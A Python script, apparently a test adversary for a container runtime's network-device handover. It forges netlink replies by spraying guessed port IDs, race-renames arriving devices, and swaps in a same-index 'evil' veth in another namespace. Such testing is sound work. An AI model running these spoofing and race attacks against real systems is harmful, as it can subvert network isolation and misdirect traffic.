# SPDX-License-Identifier: LGPL-2.1-or-later
"""Somebody with CAP_NET_ADMIN in a network namespace to which a device is handed over. Run there, with

    link INDEX      answers the runtime's requests before the kernel can: with the link of that number
    error           the same, with an error
    rename NAME     renames the device that comes, and another one to what that was called
    replace PID     moves it away, to the network namespace of that process, and makes one of the same number

It prints a line once it goes, and ends when its input does.
"""

import errno
import select
import socket
import struct
import subprocess
import sys

NLMSG_ERROR, RTM_NEWLINK = 2, 16
RTMGRP_LINK, IFLA_IFNAME = 1, 3
AROUND = 40  # processes: a port has the number of who sent first


def one(number, body):
    return struct.pack("=IHHII", 16 + len(body), number, 0, 0, 0) + body


def end_of_answer(error):
    return one(NLMSG_ERROR, struct.pack("=iIHHII", -error, 16, 16, 0, 0, 0))


def answers(text):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW | socket.SOCK_NONBLOCK, socket.NETLINK_ROUTE) as attacker:
        while not ended():
            with open("/proc/loadavg", encoding="ascii") as file:
                newest = int(file.read().split()[-1])
            for port in range(max(1, newest - AROUND), newest + AROUND):
                try:
                    attacker.sendto(text, (port, 0))
                except OSError:
                    pass


def ended():
    return select.select([sys.stdin], [], [], 0)[0]


def attributes(message):
    """{kind: value} of a link."""
    at, found = 32, {}
    while at + 4 <= len(message):
        size, kind = struct.unpack_from("=HH", message, at)
        found[kind] = message[at + 4:at + size]
        at += max(4, size + 3 & ~3)
    return found


def arrivals(listener):
    """Number and name of each link that has a name of the runtime's, as soon as it has."""
    seen = set()
    while True:
        ready, _, _ = select.select([sys.stdin, listener], [], [])
        if sys.stdin in ready:
            return
        message = listener.recv(65536)
        name = attributes(message).get(IFLA_IFNAME, b"").rstrip(b"\0").decode()
        if name.startswith("ocirt") and name not in seen:
            seen.add(name)
            yield struct.unpack_from("=i", message, 20)[0], name


def at_once(kind, words):
    """What is to be done is said to an `ip` that runs already: whoever is attacked waits for a moment only."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as listener, \
         subprocess.Popen(["ip", "-force", "-batch", "-"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL, text=True, bufsize=1) as ip:
        listener.bind((0, RTMGRP_LINK))
        print("goes", flush=True)
        for number, name in arrivals(listener):
            if kind == "rename":
                ip.stdin.write(f"link set {name} name gone\nlink set {words[0]} name {name}\n")
            else:
                ip.stdin.write(f"link set {name} netns {words[0]}\n"
                               f"link add evil index {number} type veth peer name second\n")


def main(kind, *words):
    if kind in ["rename", "replace"]:
        at_once(kind, words)
        return
    print("goes", flush=True)
    if kind == "link":
        link = struct.pack("=BxHiII", 0, 1, int(words[0]), 0, 0)
        answers(one(RTM_NEWLINK, link) + end_of_answer(0))
    else:
        answers(end_of_answer(errno.EPERM))


if __name__ == "__main__":
    main(*sys.argv[1:])
